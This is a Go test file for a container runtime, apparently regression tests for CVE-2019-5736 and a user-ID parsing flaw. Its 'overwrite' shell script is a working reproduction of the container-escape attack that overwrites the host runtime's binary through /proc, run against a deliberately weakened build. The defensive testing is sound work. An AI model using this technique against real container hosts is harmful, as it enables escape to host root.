package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"golang.org/x/sys/unix"
)

// weakly builds the program without what protects it.
func (b *bench) weakly() {
	b.t.Helper()
	if _, err := exec.LookPath("go"); err != nil {
		b.t.Skip("tool: go")
	}
	build := exec.Command("go", "build", "-tags", "weak", "-o", b.program, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		b.t.Fatalf("%v: %s", err, out)
	}
}

// hostUser makes containers root of the host, by having no user namespace, or one
// that maps every id to itself.
func (b *bench) hostUser(own bool) func(*specs.Spec) {
	b.t.Helper()
	filepath.Walk(filepath.Join(b.bundle, "rootfs"), func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, 0, 0) })
	return func(s *specs.Spec) {
		s.Root.Readonly = false
		if own {
			s.Linux.UIDMappings = []specs.LinuxIDMapping{{Size: 1<<32 - 1}}
			s.Linux.GIDMappings = s.Linux.UIDMappings
			return
		}
		s.Linux.Namespaces = s.Linux.Namespaces[1:]
		s.Linux.UIDMappings, s.Linux.GIDMappings = nil, nil
	}
}

// overwrite waits for a process that runs a program of the host, keeps a path to
// that program, and writes to it when nobody runs it any more.
const overwrite = `
while sleep 0.1; do
	for p in /proc/[0-9]*; do
		case $(readlink $p/exe) in */fief-oci)
			exec 7<$p/exe || continue
			kill -9 ${p#/proc/}
			while ! (echo overwritten >/proc/self/fd/7) 2>/why && grep -q busy /why; do sleep 0.1; done
			echo >/done
			exit
		esac
	done
done`

// TestOwnProgram: a container whose root is the host's cannot write to this
// program, which is the program of an exec by /proc/self/exe and of every exec
// for a moment, not even after its end (CVE-2019-5736). A build without the
// protection can be written to.
func TestOwnProgram(t *testing.T) {
	for name, own := range map[string]bool{"no user namespace": false, "every id itself": true} {
		t.Run(name, func(t *testing.T) {
			if text := b5736(t, own, false); strings.HasPrefix(text, "overwritten") {
				t.Error("overwritten")
			}
			if text := b5736(t, own, true); !strings.HasPrefix(text, "overwritten") {
				t.Error("a weak build is safe too: this proves nothing")
			}
		})
	}
}

// b5736 carries out the attack and returns what the program is then.
func b5736(t *testing.T, own, weak bool) string {
	b := newBench(t)
	if weak {
		b.weakly()
	}
	root := filepath.Join(b.bundle, "rootfs")
	os.Mkdir(root+"/bundle", 0o755)
	if err := unix.Mkfifo(root+"/bundle/config.json", 0o644); err != nil { // who reads it stays
		t.Fatal(err)
	}
	os.Symlink("busybox", root+"/bin/kill")
	unmap := b.hostUser(own)
	b.config(func(s *specs.Spec) { unmap(s); s.Process.Args = []string{"sh", "-c", overwrite} })
	t.Cleanup(func() { b.run("delete", "--force", "x") })
	b.ok("create", "x")
	b.ok("start", "x")
	b.run("exec", "x", "/proc/self/exe", "run", "--bundle", "/bundle", "y")
	for range 600 {
		if _, err := os.Stat(root + "/done"); err == nil {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	why, _ := os.ReadFile(root + "/why")
	t.Logf("weak %v: %s", weak, why)
	text := make([]byte, 64)
	f, err := os.Open(b.program)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n, _ := f.Read(text)
	if weak { // what lies there is no program any more
		b.program = rebuilt(b)
	}
	return string(text[:n])
}

// rebuilt builds the program beside the old one.
func rebuilt(b *bench) string {
	b.t.Helper()
	name := b.program + "-new"
	build := exec.Command("go", "build", "-o", name, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		b.t.Fatalf("%v: %s", err, out)
	}
	return name
}

// TestExecUser: --user is the numbers it says, or refused: never another user
// (CVE-2026-30892).
func TestExecUser(t *testing.T) {
	for given, want := range map[string]specs.User{"1": {UID: 1, GID: 7}, "1:2": {UID: 1, GID: 2}, "0:5": {GID: 5}, "4294967294:0": {UID: 4294967294}} {
		p := specs.Process{User: specs.User{UID: 6, GID: 7}}
		if err := (&execution{user: given}).identity(&p); err != nil || p.User.UID != want.UID || p.User.GID != want.GID {
			t.Errorf("%q: %+v, %v", given, p.User, err)
		}
	}
	for _, given := range []string{"root", "1:", ":1", ":", "-1", "+1", " 1", "1 ", "1:2:3", "1:root", "4294967296", "1x", "0x1", "1e3"} {
		p := specs.Process{User: specs.User{UID: 6, GID: 7}}
		if err := (&execution{user: given}).identity(&p); err == nil {
			t.Errorf("%q is taken for %+v", given, p.User)
		}
	}
}
